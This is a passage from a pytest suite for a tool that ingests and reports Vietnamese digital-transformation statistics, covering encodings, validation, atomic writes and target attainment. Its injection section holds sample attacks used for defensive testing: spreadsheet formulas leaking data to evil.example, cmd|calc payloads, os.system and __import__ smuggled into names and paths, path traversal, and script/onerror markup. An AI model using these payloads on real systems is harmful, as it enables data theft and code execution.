    target = dict(unit="lai-chau", indicator="households_fibre_pct", deadline="2025-12-31", value="85",
                  comparator=">=", source="rel-test", instrument="Kế hoạch thử nghiệm (invented)", quote=R1["quote"],
                  note="reltest", rank_of="")
    path = write_csv(tmp_path / "targets.csv", [target], TARGET_HEADER)
    before = stored(store)
    code, out, err = cli(capsys, "add", path, "--sources", src, "--data", store)
    assert code == 0, err
    assert out.splitlines()[0].startswith(f"{path}: added 1 targets row(s), replaced 0, skipped 0 identical")
    assert out.splitlines()[1] == "  + lai-chau households_fibre_pct 2025-12-31: 85"
    targets = stored(store, "targets.csv")
    assert targets.iloc[-1][["unit", "deadline", "value", "comparator", "source"]].tolist() == \
        ["lai-chau", "2025-12-31", "85", ">=", "rel-test"]
    assert stored(store).equals(before)


def test_A36_file_and_sources_swapped_are_refused_naming_the_missing_columns(store, src, tmp_path, capsys):
    good = write_csv(tmp_path / "good.csv", [R1, R2, R3, R4])
    before = snapshot(store)
    code, out, err = cli(capsys, "add", src, "--sources", good, "--data", store)
    assert code == 2 and out == "" and "Traceback" not in err
    lines = err.splitlines()
    assert re.fullmatch(r"\d+ problem\(s\); nothing was written:", lines[0]) and int(lines[0].split()[0]) >= 13
    assert f"{src} line 1, field 'unit': column is missing from the header ({MISSING_HINT})" in lines
    assert any(line.startswith(f"{src} line 1, field 'title': is not a column of observations.csv") for line in lines)
    assert snapshot(store) == before


@pytest.mark.heavy
def test_A40_unit_names_in_any_case_and_spacing_resolve_to_the_id(store, src, tmp_path):
    spellings = ["LAI-CHAU", " Lai Chau ", "tỉnh LAI CHÂU"]
    rows = [dict(row, unit=unit) for row, unit in zip([R1, R2, R4], spellings)]
    change = add(write_csv(tmp_path / "t.csv", rows), store, sources_file=src, dry_run=True)
    assert [r["unit"] for r in change.added] == ["lai-chau"] * 3


@pytest.mark.heavy
def test_A40_a_zero_width_space_an_unknown_indicator_and_odd_source_ids_are_refused(store, src, tmp_path):
    path = write_csv(tmp_path / "zw.csv", [dict(R1, unit="lai\u200bchau"), dict(R2, indicator="Households_Fibre_Pct")])
    problems = refused(path, store, sources_file=src, dry_run=True)
    assert [str(p) for p in problems] == [
        f"{path} line 2, field 'unit': 'lai\\u200bchau' is not a known unit (did you mean 'lai-chau'?; ids, names "
        "and aliases are listed in units.csv)",
        f"{path} line 3, field 'indicator': 'Households_Fibre_Pct' is not a known indicator (did you mean "
        "'households_fibre_pct'?; ids are listed in indicators.csv)",
    ]
    odd = write_csv(tmp_path / "odd.csv", [dict(SOURCE, id="Rel Test Ảnh", language="VI")], SOURCE_HEADER)
    problems = refused(write_csv(tmp_path / "t.csv", [dict(R1, source="Rel Test Ảnh")]), store, sources_file=odd,
                       dry_run=True)
    assert [(p.file, p.line, p.field) for p in problems] == [(str(odd), 2, "id"), (str(odd), 2, "language")]
    assert problems[0].hint == "use lower-case ASCII words joined by '-', e.g. lcdt-2022-10-23"
    assert problems[1].hint == "a two-letter code: vi, en"


def test_A40_the_message_for_a_bad_source_id_reads_as_english(store, tmp_path):
    odd = write_csv(tmp_path / "odd.csv", [dict(SOURCE, id="Rel Test Ảnh", language="VI")], SOURCE_HEADER)
    problems = refused(write_csv(tmp_path / "t.csv", [dict(R1, source="Rel Test Ảnh")]), store, sources_file=odd)
    assert problems and not any("a valid a " in p.message for p in problems)


@pytest.mark.parametrize("content, expected", [
    (b"", "line 1: is empty (the first line must name the columns)"),
    (b"\xef\xbb\xbf", "line 1: is empty (the first line must name the columns)"),
    (b"\n\n\n", f"line 1, field 'unit': column is missing from the header ({MISSING_HINT})"),
], ids=["0-byte", "BOM only", "blank lines"])
def test_A42_an_empty_file_a_bom_only_and_blank_lines_are_refused(store, tmp_path, capsys, content, expected):
    path = tmp_path / "empty.csv"
    path.write_bytes(content)
    before = snapshot(store)
    code, out, err = cli(capsys, "add", path, "--data", store)
    assert code == 2 and out == "" and "Traceback" not in err
    assert f"{path} {expected}" in err.splitlines()
    assert snapshot(store) == before


@pytest.mark.heavy
def test_A43_a_windows_1258_crlf_file_is_stored_as_the_same_nfc_text_as_the_utf8_one(store, src, tmp_path):
    path = tmp_path / "win1258.csv"
    encoded = cp1258(csv_text([R1, R2, R3, R4], newline="\r\n"))
    assert any(mark in encoded for mark in (b"\xcc", b"\xec", b"\xde", b"\xd2", b"\xf2"))  # combining tones
    path.write_bytes(encoded)
    change = add(path, store, sources_file=src)
    assert change.written and len(change.added) == 4
    kept = mine(store)
    for row in (R1, R2, R3, R4):      # the NFC text of the UTF-8 file, byte for byte
        assert kept.loc[row["indicator"], ["period", "quote", "value"]].tolist() == \
            [row["period"], row["quote"], row["value"]]
    assert b"\r" not in (store / "observations.csv").read_bytes()


def test_A44_a_windows_1252_file_that_lost_its_letters_is_refused_by_the_quote_check(store, src, tmp_path):
    path = tmp_path / "latin.csv"
    path.write_bytes(csv_text([R1, R2]).encode("cp1252", errors="replace"))
    assert b"?" in path.read_bytes()
    problems = refused(path, store, sources_file=src)
    quotes = [p for p in problems if p.field == "quote"]
    assert [p.line for p in quotes] == [2, 3]
    assert all(p.message.startswith("does not occur verbatim in the text of source 'rel-test'") for p in quotes)


def a45_file(path: Path) -> Path:
    """R1 with note `"says ""trên"" 85%` (a quote opened, never closed); R4's quoted quote closes it."""
    lines = csv_text([dict(R1, note="NOTE"), R2, R3, R4]).splitlines()
    lines[1] = lines[1].replace(",NOTE,", ',"says ""trên"" 85%,')
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_A45_an_unbalanced_quote_that_a_later_quoted_cell_closes_is_refused(store, src, tmp_path, capsys):
    path = a45_file(tmp_path / "t.csv")
    before = snapshot(store)
    code, out, err = cli(capsys, "add", path, "--sources", src, "--data", store)
    assert code == 2 and out == "" and "Traceback" not in err
    [line] = err.splitlines()[1:]
    assert line.startswith(f"{path} line ") and "is not valid CSV" in line
    assert 'write a quote inside the text as two ("")' in line
    assert snapshot(store) == before


def test_A45_the_refusal_names_the_line_where_the_quote_opens(store, src, tmp_path):
    [problem] = refused(a45_file(tmp_path / "t.csv"), store, sources_file=src)
    assert problem.line == 2


@pytest.mark.heavy
def test_A47_a_date_in_the_future_is_refused_and_the_report_date_stays(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R1, as_of="2203-06-30")])
    problems = refused(path, store, sources_file=src)
    assert str(problems[0]) == (f"{path} line 2, field 'as_of': 2203-06-30 is in the future (as_of is the date the "
                                "figure describes; check the year (a typo such as 2203 for 2023))")
    assert dtlib.report_date(dtlib.load(store)) < pd.Timestamp.today()


def test_A51_a_capitalised_header_and_rank_of_with_a_space_are_refused(store, src, tmp_path):
    header = [h.capitalize() for h in HEADER]
    path = write_csv(tmp_path / "cap.csv", [dict(zip(header, (R1[h] for h in HEADER)))], header)
    problems = refused(path, store, sources_file=src)
    assert {p.field for p in problems if p.message == "column is missing from the header"} == set(HEADER) - {"rank_of"}
    assert f"{path} line 1, field 'Unit': is not a column of observations.csv" in [str(p).split(" (")[0]
                                                                                    for p in problems]
    header = [h if h != "rank_of" else "rank of" for h in HEADER]
    path = write_csv(tmp_path / "rank.csv", [dict(zip(header, (R3[h] for h in HEADER)))], header)
    [problem] = refused(path, store, sources_file=src)
    assert (problem.line, problem.field, problem.message) == (1, "rank of", "is not a column of observations.csv")
    assert "rank_of" in problem.hint


@pytest.mark.heavy
def test_A52_replace_is_refused_without_the_flag_dry_run_writes_nothing_and_history_keeps_each_old_row(
        store, src, tmp_path, capsys):
    """The probe's cycle: seed 85, then 86 (refused), --replace --dry-run, --replace, and back to 85.
    The quote of 86 is a sentence added to the invented text (the quote must state the value)."""
    sentence = "Tỷ lệ hộ gia đình có kết nối internet băng rộng cáp quang đạt 86% (số liệu điều chỉnh)."
    with open(store / "sources" / "900_reltest.txt", "a", encoding="utf-8") as handle:
        handle.write(sentence + "\n")
    add(write_csv(tmp_path / "seed.csv", [R1]), store, sources_file=src)
    revised = write_csv(tmp_path / "rev.csv", [dict(R1, value="86", quote=sentence)])

    [problem] = refused(revised, store)
    assert (problem.line, problem.field) == (2, "value")
    assert problem.message.startswith("86 (rel-test) conflicts with the stored 85 (rel-test) for unit=lai-chau, "
                                      "indicator=households_fibre_pct, as_of=2023-06-30")
    assert problem.hint.startswith("pass --replace to replace the stored row (it is kept in history.csv)")

    before = snapshot(store)
    code, out, err = cli(capsys, "add", revised, "--data", store, "--replace", "--dry-run")
    assert code == 0 and "would replace 1" in out and "  ~ lai-chau households_fibre_pct 2023-06-30: 85 (rel-test) " \
                                                       "-> 86 (rel-test)" in out
    assert snapshot(store) == before

    history_rows = len(stored(store, "history.csv"))
    assert cli(capsys, "add", revised, "--data", store, "--replace")[0] == 0
    assert mine(store).loc["households_fibre_pct", "value"] == "86"
    history = stored(store, "history.csv")
    assert len(history) == history_rows + 1 and history.iloc[-1][["unit", "value"]].tolist() == ["lai-chau", "85"]
    assert history.iloc[-1]["replaced_by"].endswith("rev.csv")

    back = write_csv(tmp_path / "back.csv", [R1])
    assert cli(capsys, "add", back, "--data", store, "--replace")[0] == 0
    assert mine(store).loc["households_fibre_pct", "value"] == "85"
    history = stored(store, "history.csv")
    assert len(history) == history_rows + 2 and history.iloc[-1]["value"] == "86"
    assert cli(capsys, "validate", "--data", store)[0] == 0


def test_A54_an_unknown_encoding_names_the_file_and_wrong_encodings_are_refused(store, src, tmp_path):
    good = write_csv(tmp_path / "good.csv", [R1, R2, R3, R4])
    [problem] = refused(good, store, sources_file=src, encoding="klingon", dry_run=True)
    assert str(problem) == (f"{good}: 'klingon' is not an encoding Python knows (name one such as utf-8, utf-16 "
                            "or cp1258, or leave --encoding out)")
    problems = refused(good, store, sources_file=src, encoding="utf-16", dry_run=True)
    assert {p.field for p in problems if p.message == "column is missing from the header"} == \
        set(HEADER) - {"rank_of"}
    problems = refused(good, store, sources_file=src, encoding="latin-1", dry_run=True)
    assert problems and all(p.file == str(good) and "holds the control character" in p.message for p in problems)


@pytest.mark.heavy
def test_A55_utf16_tab_separated_unicode_text_is_added(store, src, tmp_path):
    path = tmp_path / "u16.txt"
    path.write_bytes(csv_text([R1, R2, R3, R4], delimiter="\t").encode("utf-16"))
    change = add(path, store, sources_file=src)
    assert change.written and len(change.added) == 4
    assert mine(store).loc["dossiers_online_province_pct", "quote"] == R4["quote"]


def test_A58_a_trivial_quote_is_refused_as_too_short_and_as_not_stating_the_value(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R1, quote="8"), dict(R2, value="999999", quote="đạt")])
    problems = refused(path, store, sources_file=src, dry_run=True)
    text = [str(p) for p in problems]
    short = "is too short to be the sentence that states the figure (copy the whole sentence (or the clause with " \
            "the figure) from the source)"
    assert f"{path} line 2, field 'quote': '8' {short}" in text
    assert f"{path} line 3, field 'quote': 'đạt' {short}" in text
    assert f"{path} line 2, field 'value': 85 is not a number the quote states (it states 8) ({VALUE_HINT})" in text
    assert (f"{path} line 3, field 'value': 999999 is not a number the quote states (it states no number) "
            f"({VALUE_HINT})") in text


def test_A59_a_period_that_does_not_end_on_as_of_is_refused(store, src, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R1, period="9 tháng năm 2023")])
    [problem] = refused(path, store, sources_file=src)
    assert str(problem) == (f"{path} line 2, field 'period': '9 tháng năm 2023' ends on 2023-09-30, not on as_of "
                            "2023-06-30 (as_of is the last day of the window the figure describes: correct as_of or "
                            "the period)")


def test_A60_a_quote_from_another_sources_text_is_refused_showing_where_it_differs(store, tmp_path):
    path = write_csv(tmp_path / "t.csv", [dict(R1, source="lcdt-2022-10-23")])
    [problem] = refused(path, store)
    assert (problem.line, problem.field) == (2, "quote")
    assert problem.message == "does not occur verbatim in the text of source 'lcdt-2022-10-23'"
    assert problem.hint.startswith("the first 7 characters match, then the quote has 'ộ gia đình có kết nối int'")


@pytest.mark.heavy
def test_A61_the_data_tests_pass_after_a_valid_quarterly_add(store, src, tmp_path, monkeypatch):
    """The README routine: add a quarter's file (a sixth source text), then the data tests pass.

    Every test of tests/test_data.py, run on the store after the addition (its data folder
    pointed at the copy, its ``shipped`` fixture the copy loaded): the probe's failure was
    ``test_the_five_raw_texts_are_shipped`` asserting exactly five texts."""
    from . import test_data as data_suite

    change = add(write_csv(tmp_path / "t.csv", [R1]), store, sources_file=src)
    assert change.written and len(change.sources_added) == 1
    monkeypatch.setattr(data_suite, "DATA", store)
    data = dtlib.load(store)
    assert "sources/900_reltest.txt" in set(data.sources["file"])
    ran = []
    for name, function in vars(data_suite).items():
        if name.startswith("test_") and callable(function):
            parameters = set(inspect.signature(function).parameters)
            assert parameters <= {"shipped"}, (name, parameters)
            function(**({"shipped": data} if parameters else {}))
            ran.append(name)
    assert len(ran) >= 15 and "test_every_source_text_named_is_shipped_and_the_five_originals_are_among_them" in ran


# ------------------------------------------------------------------------ V: validate, hand edits

def test_V1_a_store_with_trailing_empty_columns_on_every_line_is_valid(store, capsys):
    path = store / "observations.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    path.write_text("\n".join(line + ",," if line else line for line in lines), encoding="utf-8")
    code, out, err = cli(capsys, "validate", "--data", store)
    assert code == 0 and out.strip().endswith(": valid"), err


def test_V2_an_excel_round_trip_with_bom_and_crlf_is_valid_and_semicolons_are_refused_per_line(store, capsys):
    path = store / "observations.csv"
    original = path.read_bytes()
    path.write_bytes(b"\xef\xbb\xbf" + original.replace(b"\n", b"\r\n"))
    code, out, err = cli(capsys, "validate", "--data", store)
    assert code == 0 and out.strip().endswith(": valid"), err

    path.write_bytes(original)
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame.to_csv(path, sep=";", index=False)
    code, out, err = cli(capsys, "validate", "--data", store)
    assert code == 2 and "Traceback" not in err
    lines = err.splitlines()
    assert lines[0].endswith("problem(s) in the data set:")
    assert lines[1].startswith(f"{path} line 2: has ") and "cells but the header names 1 columns" in lines[1]
    assert len({re.search(r" line (\d+)", line)[1] for line in lines[1:]}) > 100


# --------------------------------------------------------------------------------- B: killed runs

KILL_AT = {
    "while checking the rows": "_merge_rows",
    "after the checks, before the first write": "_write",
}


@pytest.mark.heavy
@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs fork")
@pytest.mark.parametrize("where", list(KILL_AT))
def test_B2_kill_9_of_add_before_it_writes_leaves_the_store_unchanged_and_valid(store, src, tmp_path, capsys, where):
    """`kill -9` of `add --replace` with a new source while it holds the lock (a forked process that
    receives SIGKILL at that point): the store stays byte-identical, no temporary file is left,
    and the lock of the dead process does not stop the next run."""
    import dtlib.intake.ingest

    add(write_csv(tmp_path / "seed.csv", [R1]), store, sources_file=src)
    new_source = write_csv(tmp_path / "src2.csv", [dict(SOURCE, id="rel-test-2")], SOURCE_HEADER)
    rows = [dict(R1, value="98.7", source="rel-test-2", quote=R4["quote"]), dict(R2, source="rel-test-2"),
            dict(R3, source="rel-test-2"), dict(R4, source="rel-test-2")]
    path = write_csv(tmp_path / "b2.csv", rows)
    before = snapshot(store)
    pid = os.fork()
    if pid == 0:                                   # the add that is killed
        try:
            def killed(*args, **kwargs):
                assert (store / LOCK).exists()
                os.kill(os.getpid(), signal.SIGKILL)
            setattr(dtlib.intake.ingest, KILL_AT[where], killed)
            add(path, store, sources_file=new_source, replace=True, notify=lambda line: None)
        finally:
            os._exit(3)                            # not killed: the test fails below
    _, status = os.waitpid(pid, 0)
    assert os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL
    assert snapshot(store) == before
    assert not list(store.glob(".txn-*")) and not list(store.glob(".*.tmp"))
    code, out, err = cli(capsys, "validate", "--data", store, "--lock-timeout", "5")   # the dead run's lock is free
    assert code == 0 and err == "" and out.strip().endswith(": valid")


def b7_notebook(path: Path, fail: bool) -> str:
    import nbformat

    nb = nbformat.v4.new_notebook()
    params = nbformat.v4.new_code_cell('out_dir = "."')
    params.metadata["tags"] = ["parameters"]
    nb.cells = [nbformat.v4.new_markdown_cell("# 03_targets (probe B7)"), params,
                nbformat.v4.new_code_cell("x = 1")]
    if fail:
        nb.cells.append(nbformat.v4.new_code_cell("raise RuntimeError('boom: dữ liệu hỏng')"))
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, path)
    return str(path)


@pytest.mark.heavy
def test_B7_a_notebook_that_raises_is_named_with_its_cell_and_the_last_good_output_stays(tmp_path):
    """One real run of a small failing notebook over a pack whose previous run of it succeeded."""
    import nbformat

    from dtlib.pack.report import Job, build_pack, describe_failure

    out = tmp_path / "pack"
    (out / "notebooks").mkdir(parents=True)
    (out / "tables").mkdir()
    previous = {"targets_heatmap.png": b"old png", "targets_heatmap.svg": b"<svg/>",
                "targets_heatmap.csv": b"unit\nlai-chau\n", "tables/attainment.csv": b"unit,status\nlai-chau,met\n",
                "notebooks/03_targets.html": b"<html>old</html>"}
    for name, content in previous.items():
        (out / name).write_bytes(content)
    (out / "targets_heatmap.json").write_text(json.dumps({"name": "targets_heatmap", "caption": "Old heat-map",
                                                          "source": "Nguồn: cũ"}), encoding="utf-8")
    b7_notebook(out / "notebooks" / "03_targets.ipynb", fail=False)
    good_notebook = (out / "notebooks" / "03_targets.ipynb").read_bytes()
    (out / "manifest.json").write_text(json.dumps({"runs": [{"name": "03_targets", "status": "ok",
                                                             "figures": ["targets_heatmap"]}]}), encoding="utf-8")

    bad = b7_notebook(tmp_path / "03_targets.ipynb", fail=True)
    manifest = build_pack([Job(bad, "03_targets", {})], out, n_jobs=1, progress=False)
    [run] = manifest["runs"]
    assert manifest["ok"] is False and run["status"] == "failed"
    assert run["error"]["ename"] == "RuntimeError" and run["error"]["evalue"] == "boom: dữ liệu hỏng"
    # markdown, parameters, papermill's injected parameters, x = 1, raise: the 5th cell, index 4
    assert run["error"]["cell"] == 4
    assert describe_failure(run) == "03_targets.ipynb (run 03_targets), cell 4: RuntimeError: boom: dữ liệu hỏng"
    failed = nbformat.read(out / "notebooks" / "03_targets.failed.ipynb", as_version=4)
    # the .failed.ipynb opens with papermill's error banner and marks the cell: index 4 without them
    cells = [c for c in failed.cells if "papermill-error-cell-tag" not in c.metadata.get("tags", [])]
    assert cells[run["error"]["cell"]].source == "raise RuntimeError('boom: dữ liệu hỏng')"
    assert all((out / name).read_bytes() == content for name, content in previous.items())
    assert (out / "notebooks" / "03_targets.ipynb").read_bytes() == good_notebook
    on_disk = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert on_disk["runs"][0]["error"]["cell"] == 4 and on_disk["runs"][0]["figures"] == ["targets_heatmap"]
    page = (out / "index.html").read_text(encoding="utf-8")
    assert "cell 4: RuntimeError: boom: dữ liệu hỏng" in page and "targets_heatmap.png" in page
    assert "Old heat-map" in page and not list(out.glob(".staging-*"))


# ------------------------------------------------------------------------- C: injection through data

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1|cmd",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
LIVE = ("=", "+", "-", "@", "\t", "\r")


def live_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would run as formulas (plain signed numbers are numbers)."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(LIVE) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)]


@pytest.mark.heavy
def test_C4_formulas_in_the_data_reach_no_exported_csv_as_live_cells(store, tmp_path):
    """What `add` takes is stored as written; every CSV the pack exports (figure data, tables,
    the pack's snapshot of the figures) prefixes a cell a spreadsheet would run with `'`."""
    from dtlib.data.io import export_csv
    from dtlib.analysis.observations import known_observations
    from dtlib.figures.style import save_table

    sources = write_csv(tmp_path / "src-evil.csv", [dict(SOURCE, title=FORMULAS[0], note="@SUM(1+1)")], SOURCE_HEADER)
    bad_periods = write_csv(tmp_path / "periods.csv", [dict(R1, period=p) for p in FORMULAS[:3]])
    problems = refused(bad_periods, store, sources_file=sources)
    assert [(p.line, p.field) for p in problems if "is not a reporting window" in p.message] == \
        [(2, "period"), (3, "period"), (4, "period")]

    hyperlink = '=HYPERLINK("http://evil.example/?leak=1","bấm vào đây")'
    COMPUTED = "computed: a test figure; the quote, a formula, states none"
    rows = [dict(R1, note=FORMULAS[3]), dict(R2, note=FORMULAS[4]), dict(R3, note=FORMULAS[1]),
            # a quote that is a formula states no number (second probe, Q05): the value is marked computed
            dict(R2, as_of="2023-03-31", period="quý I/2023", value="1", quote=hyperlink, note=COMPUTED)]
    change = add(write_csv(tmp_path / "evil.csv", rows), store, sources_file=sources)
    assert len(change.added) == 4
    data = dtlib.load(store)
    kept = data.observations[data.observations["source"] == "rel-test"]
    assert set(kept["note"]) == {FORMULAS[3], FORMULAS[4], FORMULAS[1], COMPUTED}    # the store keeps the text

    figures = known_observations(data, "2023-09-30")
    exported = {"pack_observations": export_csv(figures), "sources": export_csv(data.sources)}
    out = tmp_path / "pack"
    for name, frame in {"figures": figures, "sources_table": data.sources}.items():
        exported[name] = save_table(frame, out, name).read_text(encoding="utf-8")
    for name, text in exported.items():
        assert not live_cells(text), (name, live_cells(text)[:3])
        assert not [h for h in next(csv.reader(io.StringIO(text))) if h.startswith(LIVE)], name
    everything = "\n".join(exported.values())
    for formula in [*FORMULAS[:2], *FORMULAS[3:], hyperlink, "@SUM(1+1)"]:
        assert "'" + formula in [cell for row in csv.reader(io.StringIO(everything)) for cell in row], formula


@pytest.mark.heavy
def test_C6_C9_hostile_or_path_like_units_are_refused_before_any_notebook_runs(store, tmp_path, capsys):
    pwned = tmp_path / "pwned"
    out = tmp_path / "pack"
    hostile = f"lao-cai\"]; import os; os.system('touch {pwned}'); x=[\""
    code, stdout, err = cli(capsys, "report", "--data", store, "--out", out, "--units", hostile)
    assert code == 2 and stdout == ""
    assert err == f"error: {hostile!r} is not a known unit\n"
    code, stdout, err = cli(capsys, "report", "--data", store, "--out", out, "--units", "../../x")
    assert code == 2 and err == "error: '../../x' is not a known unit\n"
    assert not pwned.exists() and not out.exists()


def test_C9_unit_ids_are_slugs_and_output_names_cannot_leave_the_pack(store, capsys):
    from dtlib.figures.style import save_figure

    with open(store / "units.csv", "a", encoding="utf-8") as handle:
        handle.write("../../x,X,X,province,vietnam,,,,,,\n")
    code, out, err = cli(capsys, "validate", "--data", store)
    assert code == 2
    assert re.search(r"units\.csv line \d+, field 'id': '\.\./\.\./x' is not a valid", err), err
    assert "(use lower-case ASCII words joined by '-', e.g. lao-cai)" in err
    with pytest.raises(ValueError, match=r"output name '\.\./\.\./x' must be lower-case ASCII letters"):
        save_figure(None, store, "../../x", pd.DataFrame(), "", "", "")


HOSTILE_DIRS = ['/tmp/a"b', "/tmp/it's", "/tmp/line\nbreak",
                '/tmp/x"); __import__("pathlib").Path("PWNED").touch(); ("',
                "/tmp/x'''; __import__(\"pathlib\").Path('PWNED2').touch(); '''", "/tmp/back\\slash\\\"end"]


@pytest.mark.parametrize("hostile", HOSTILE_DIRS, ids=["dquote", "squote", "newline", "code-dq", "code-sq", "bslash"])
def test_C7_data_and_out_paths_reach_the_notebook_as_exactly_those_strings(shipped, tmp_path, monkeypatch, hostile):
    """The parameters papermill injects for each run of a pack, rendered by papermill's own
    translator and executed: they assign exactly the strings given, and run nothing."""
    from papermill.translators import translate_parameters

    from dtlib.pack.report import plan, recorded_data_dir, recorded_folder

    monkeypatch.chdir(tmp_path)
    jobs = plan(shipped, as_of="2023-09-30", units=["lai-chau"], data_dir=hostile)
    assert len(jobs) == 5
    for job in jobs:
        params = {**job.parameters, "out_dir": hostile + "/files"}     # as run_job adds it
        # recorded relative to the repository (probe 2, R10), naming the folder given
        assert params["data_dir"] == recorded_data_dir(hostile) and recorded_folder(params["data_dir"]) == Path(
            hostile).resolve()
        code = translate_parameters("python3", "python", params, "Injected parameters")
        namespace: dict = {}
        exec(compile(code, "<injected-parameters>", "exec"), {"__builtins__": {}}, namespace)
        assert namespace == params, code
    assert not list(tmp_path.rglob("PWNED*")) and not list(Path("/tmp").glob("PWNED*"))


TITLE = '<script>alert(1)</script> --><script>alert(2)</script><!-- <img src=x onerror=alert(3)> & "q"'


@pytest.mark.parametrize("fonttype", ["path", "none"])
def test_C12_figure_text_is_escaped_in_the_svg(tmp_path, fonttype):
    """An SVG of the pack (through save_figure) with a title, a label and a caption holding markup:
    no element but SVG's own, the text as written, comments that do not close early."""
    import matplotlib
    import matplotlib.pyplot as plt

    from dtlib.figures.style import save_figure

    with matplotlib.rc_context({"svg.fonttype": fonttype}):
        fig, ax = plt.subplots(figsize=(2, 1.5))
        ax.bar([TITLE[:20]], [1])
        ax.set_title(TITLE)
        meta = save_figure(fig, tmp_path, "c12_figure", pd.DataFrame({"unit": [TITLE]}), caption=TITLE,
                           source=TITLE, notebook="probe")
        plt.close(fig)
    svg = (tmp_path / meta["svg"]).read_text(encoding="utf-8")
    assert "<script" not in svg and "<img" not in svg
    root = ET.fromstring(svg)
    assert not [el for el in root.iter() if el.tag.split("}")[-1] in ("script", "img", "foreignObject")]
    comments = re.findall(r"<!--(.*?)-->", svg, flags=re.S)
    assert any("&lt;script&gt;alert(1)&lt;/script&gt;" in c for c in comments) or fonttype == "none"
    assert all("--" not in c for c in comments)
    if fonttype == "none":
        assert TITLE in ["".join(el.itertext()) for el in root.iter() if el.tag.endswith("text")]
    assert json.loads((tmp_path / "c12_figure.json").read_text(encoding="utf-8"))["caption"] == TITLE


# -------------------------------------------------------- D: correctness of the attainment table

REPORT_DATE = "2023-09-30"


_TABLES: dict[str, pd.DataFrame] = {}


def attainment_on(data: dtlib.Dataset, when: str) -> pd.DataFrame:
    """``dtlib.attainment_table`` of the shipped data on ``when``, computed once for this module."""
    if when not in _TABLES:
        _TABLES[when] = dtlib.attainment_table(data, when)
    return _TABLES[when].copy()


@pytest.fixture(scope="module")
def attainment_2023(shipped) -> pd.DataFrame:
    return attainment_on(shipped, REPORT_DATE).set_index(["unit", "indicator"])


def row_of(table: pd.DataFrame, unit: str, indicator: str) -> dict:
    row = table.loc[(unit, indicator)]
    out = {k: row[k] for k in ["value", "target_unit", "target", "comparator", "gap", "status"]}
    out["as_of"] = None if pd.isna(row["as_of"]) else f"{row['as_of']:%Y-%m-%d}"
    out["deadline"] = f"{row['deadline']:%Y-%m-%d}"
    out["value"] = None if pd.isna(out["value"]) else float(out["value"])
    out["gap"] = None if pd.isna(out["gap"]) else round(float(out["gap"]), 6)
    out["target"] = float(out["target"])
    return out


def test_D1_lao_cai_full_online_services_100_against_the_national_80_is_met(attainment_2023):
    """As the probe: 100 at 2023-09-30 (undated source, known on its date) vs national ≥80 by 2025-12-31.
    The figures added since the probe (2023-2026) are published after 2023-09-30: no change."""
    assert row_of(attainment_2023, "lao-cai", "online_public_services_full_pct") == dict(
        as_of="2023-09-30", value=100.0, target_unit="vietnam", target=80.0, comparator=">=", deadline="2025-12-31",
        gap=-20.0, status="met")


def test_D2_lai_chau_dti_rank_53_of_63_against_its_own_top_45_is_insufficient_data(attainment_2023):
    """As the probe: DTI 2022 rank 53/63; DTI 2023 was published in 2025 and is not yet known."""
    assert row_of(attainment_2023, "lai-chau", "dti_rank") == dict(
        as_of="2022-12-31", value=53.0, target_unit="lai-chau", target=45.0, comparator="<=", deadline="2025-12-31",
        gap=8.0, status="insufficient_data")
    assert attainment_2023.loc[("lai-chau", "dti_rank"), "target_rank_of"] == 63


def test_D3_quang_binh_fibre_59_21_against_the_national_85_by_2023_is_insufficient_data(attainment_2023):
    """As the probe: the nearest national deadline ahead is 85 by 2023-12-31 (qd-17-2023, published 2023-04-04)."""
    assert row_of(attainment_2023, "quang-binh", "households_fibre_pct") == dict(
        as_of="2022-06-30", value=59.21, target_unit="vietnam", target=85.0, comparator=">=", deadline="2023-12-31",
        gap=25.79, status="insufficient_data")
    assert attainment_2023.loc[("quang-binh", "households_fibre_pct"), "target_source"] == "qd-17-2023-ubqgcds"


def test_D4_gia_phu_resolved_online_93_against_the_passed_national_50_is_met(attainment_2023):
    """As the probe: the commune falls back through Bảo Thắng and Lào Cai to the nation; 50 by 2022-12-31 has
    passed and is the last."""
    assert row_of(attainment_2023, "gia-phu", "dossiers_resolved_online_pct") == dict(
        as_of="2023-09-30", value=93.0, target_unit="vietnam", target=50.0, comparator=">=", deadline="2022-12-31",
        gap=-43.0, status="met")


def test_D5_thai_nguyen_without_a_fibre_figure_is_no_data(attainment_2023):
    assert row_of(attainment_2023, "thai-nguyen", "households_fibre_pct") == dict(
        as_of=None, value=None, target_unit="vietnam", target=85.0, comparator=">=", deadline="2023-12-31",
        gap=None, status="no_data")


# D6: an independent recomputation from the CSV files, by the rules of README's "How attainment is judged"

def _dates(series: pd.Series) -> pd.Series:
    return pd.to_datetime(series.where(series != ""), format="%Y-%m-%d")


def independent_attainment(root: Path, when: str) -> pd.DataFrame:
    """The attainment table on ``when`` from the five CSV files (and history.csv), pandas only.

    - A figure is known when it describes a date up to ``when`` and its source was published by
      then (an undated source: on the figure's own date; a figure recomputed on later boundaries:
      not before their first day, ``basis``). Of the vintages of one unit, indicator and date
      (history.csv keeps replaced ones) the one known last counts; on a tie, the current row.
    - A target applies when its source was published by ``when``. An undated source's targets
      apply, unless the source states figures dated after ``when``, or its ``not_before`` (the
      latest day its text names) is after ``when`` (it cannot have been published before them); see test_D8 for the case where dtlib disagrees.
    - Units: every unit that exists on ``when`` and has a known figure or a target of its own,
      and the nation. Target: the unit's own, else its parent's, else the nation's; among them
      the nearest deadline on or after ``when``, else the last.
    - The figures judged are those of one kind of window (that of the latest figure that is not
      a month's); for a rank target, only ranks out of the same number of units (none: not
      comparable).
    - met if the latest figure meets the target; fewer than two dates: insufficient data; else
